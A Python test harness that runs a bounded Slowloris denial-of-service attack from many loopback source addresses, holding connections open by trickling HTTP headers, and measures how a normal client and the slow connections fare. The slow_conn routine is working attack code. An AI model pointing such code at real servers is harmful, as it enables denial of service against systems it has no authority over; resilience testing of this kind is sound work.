#!/usr/bin/env python3
"""Slowloris on loopback: N connections (from many 127.0.x.y source addresses) each trickle a request
head, one byte per second, for at most --seconds; meanwhile a normal client sends --requests requests.
Reports how the normal client fared and how long the slow connections survived. Bounded in count and time."""
import argparse
import asyncio
import json
import time


async def slow_conn(host, port, src, seconds, out):
    t0 = time.monotonic()
    try:
        r, w = await asyncio.open_connection(host, port, local_addr=(src, 0))
    except OSError:
        out.append(("refused", 0.0))
        return
    head = b"GET / HTTP/1.1\r\nHost: victim\r\nX-Slow: " + b"a" * 200
    try:
        for b in head:
            if time.monotonic() - t0 > seconds:
                out.append(("survived", time.monotonic() - t0))
                return
            w.write(bytes([b]))
            await w.drain()
            try:
                data = await asyncio.wait_for(r.read(1), timeout=1.0)
                if data == b"" or data:
                    out.append(("cut", time.monotonic() - t0))
                    return
            except asyncio.TimeoutError:
                pass
    except (ConnectionError, OSError):
        out.append(("cut", time.monotonic() - t0))
        return
    finally:
        w.close()
    out.append(("survived", time.monotonic() - t0))


async def normal_client(host, port, n, lat, failures):
    await asyncio.sleep(2.0)  # let the slow connections pile up first: this is the scenario, not a sync
    for _ in range(n):
        t0 = time.monotonic()
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(host, port), timeout=5)
            w.write(b"GET / HTTP/1.1\r\nHost: app\r\nUser-Agent: normal\r\nConnection: close\r\n\r\n")
            await w.drain()
            line = await asyncio.wait_for(r.readline(), timeout=5)
            w.close()
            if b" 200 " in line:
                lat.append(time.monotonic() - t0)
            else:
                failures.append(line.decode(errors="replace").strip())
        except (asyncio.TimeoutError, OSError) as e:
            failures.append(type(e).__name__)
        await asyncio.sleep(0.1)


async def main(a):
    host, port = a.target.rsplit(":", 1)
    port = int(port)
    out, lat, failures = [], [], []
    srcs = [f"127.0.{1 + i // 250}.{1 + i % 250}" for i in range(a.slow)]
    tasks = [asyncio.create_task(slow_conn(host, port, s, a.seconds, out)) for s in srcs]
    await normal_client(host, port, a.requests, lat, failures)
    await asyncio.gather(*tasks)
    lat.sort()
    cut = sorted(t for k, t in out if k == "cut")
    res = {
        "target": a.target, "slow_connections": a.slow,
        "normal_ok": len(lat), "normal_failed": len(failures), "failures": failures[:5],
        "normal_p50_ms": round(lat[len(lat) // 2] * 1000, 1) if lat else None,
        "normal_max_ms": round(lat[-1] * 1000, 1) if lat else None,
        "slow_cut": len(cut), "slow_survived": sum(1 for k, _ in out if k == "survived"),
        "slow_refused": sum(1 for k, _ in out if k == "refused"),
        "slow_cut_median_s": round(cut[len(cut) // 2], 1) if cut else None,
    }
    print(json.dumps(res))
    if a.json:
        with open(a.json, "w") as f:
            json.dump(res, f, indent=1)


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    ap.add_argument("--slow", type=int, default=500)
    ap.add_argument("--requests", type=int, default=50)
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--json")
    asyncio.run(main(ap.parse_args()))
